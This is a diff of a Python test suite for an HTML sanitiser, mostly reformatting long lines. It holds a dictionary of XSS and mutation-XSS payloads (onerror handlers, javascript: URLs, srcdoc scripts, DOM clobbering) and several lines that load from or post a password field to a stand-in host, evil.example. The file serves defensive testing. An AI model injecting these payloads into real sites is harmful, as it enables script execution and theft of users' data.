@@ -37,7 +37,8 @@ PAYLOADS = {
     "comment": "<!--><img src=x onerror=alert(1)>-->",
     "textarea": "<textarea><!--</textarea><img src=x onerror=alert(1)>-->",
     "title in svg": '<svg></p><title><a id="</title><img src=x onerror=alert(1)>"></title>',
-    "template in select": '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">',
+    "template in select": '<select><template><style><!--</style><a rel="--></style></template></select>'
+    '<img src onerror=alert(1)>">',
     "form in math": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
     "xmp": '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
     "noembed": '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
@@ -54,7 +55,7 @@ PAYLOADS = {
     "srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
     "object": "<object data=javascript:alert(1)></object><embed src=//evil.example/x>",
     "refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
-    "form": "<form action=https://evil.example/><input name=pw><button formaction=javascript:alert(1)>go</button></form>",
+    "form": "<form action=https://evil.example/><input name=pw><button formaction=javascript:alert(1)>go</form>",
     "details": "<details open ontoggle=alert(1)>x</details>",
     "clobbering": "<form id=document><input name=cookie></form><a id=location href=https://evil.example>y</a>",
     "style sheet": "<style>@import url(https://evil.example/x.css)</style><link rel=stylesheet href=//evil.example/x>",
@@ -95,7 +96,16 @@ def acts(name: str, value: str) -> bool:
         return not target.startswith(("http:", "https:", "mailto:", "tel:"))
     if name == "style":
         return bool(re.search(r"url|expression|position|image|\\|:\s*-\d", value, re.IGNORECASE))
-    return name.startswith("on") or name in ("srcdoc", "srcset", "poster", "background", "action", "formaction", "id", "class")
+    return name.startswith("on") or name in (
+        "srcdoc",
+        "srcset",
+        "poster",
+        "background",
+        "action",
+        "formaction",
+        "id",
+        "class",
+    )
 
 
 @pytest.mark.parametrize("name", PAYLOADS)
@@ -109,7 +119,9 @@ def test_C11_nothing_runs_and_nothing_loads(name: str) -> None:
 @pytest.mark.parametrize("name", PAYLOADS)
 def test_C11_bleach_as_the_second_opinion_finds_no_tag_to_take_out(name: str) -> None:
     safe = clean.sanitise(PAYLOADS[name], frozenset({"kept"}))
-    again = bleach.clean(safe, tags=set(clean.TAGS), attributes=lambda *_: True, protocols={"http", "https", "mailto", "cid"})
+    again = bleach.clean(
+        safe, tags=set(clean.TAGS), attributes=lambda *_: True, protocols={"http", "https", "mailto", "cid"}
+    )
     assert again.count("&lt;") == safe.count("&lt;")
 
 
@@ -119,7 +131,9 @@ def test_C12_the_lists_hold_nothing_that_switches_the_parser() -> None:
 
 
 def test_C13_a_remote_picture_becomes_a_note_and_a_pixel_nothing() -> None:
-    html = '<p>a<img src="https://x.example/logo.png" alt="Our logo">b<img src="https://x.example/p" width=1 height=1>c</p>'
+    html = (
+        '<p>a<img src="https://x.example/l.png" alt="Our logo">b<img src="https://x.example/p" width=1 height=1>c</p>'
+    )
     assert clean.sanitise(html, frozenset()) == "<p>a[image: Our logo]bc</p>"
 
 
@@ -137,7 +151,9 @@ def test_links_stay_and_give_nothing_away() -> None:
 
 
 def test_colours_and_tables_stay() -> None:
-    html = '<table border="1"><tbody><tr><td style="color:#c00;text-align:right" colspan="2">1</td></tr></tbody></table>'
+    html = (
+        '<table border="1"><tbody><tr><td style="color:#c00;text-align:right" colspan="2">1</td></tr></tbody></table>'
+    )
     assert clean.sanitise(html, frozenset()) == html
 
 
@@ -162,7 +178,10 @@ def test_C14_bombs_cost_little_and_become_text(bomb: str) -> None:
 
 
 def test_a_megabyte_of_html_takes_less_than_half_a_second() -> None:
-    html = "<html><body>" + '<p style="color:red">A paragraph of <b>bold</b> and <a href="https://x.example/1">link</a></p>' * 11_000
+    html = (
+        "<html><body>"
+        + '<p style="color:red">A paragraph of <b>bold</b> and <a href="https://x.example/1">link</a></p>' * 11_000
+    )
     started = time.process_time()
     assert "paragraph" in clean.sanitise(html, frozenset())
     assert time.process_time() - started < 1.0, "twice the aim, for a slow machine"
@@ -170,7 +189,21 @@ def test_a_megabyte_of_html_takes_less_than_half_a_second() -> None:
 
 FRAGMENTS = st.lists(
     st.one_of(
-        st.sampled_from([*PAYLOADS.values(), "<table>", "<td>", "</p>", "<p>", "<a href=x>", "&nbsp;", "\xa0", "<pre>\n", "&#0;", "]]>"]),
+        st.sampled_from(
+            [
+                *PAYLOADS.values(),
+                "<table>",
+                "<td>",
+                "</p>",
+                "<p>",
+                "<a href=x>",
+                "&nbsp;",
+                "\xa0",
+                "<pre>\n",
+                "&#0;",
+                "]]>",
+            ]
+        ),
         st.text(max_size=20),
     ),
     max_size=8,
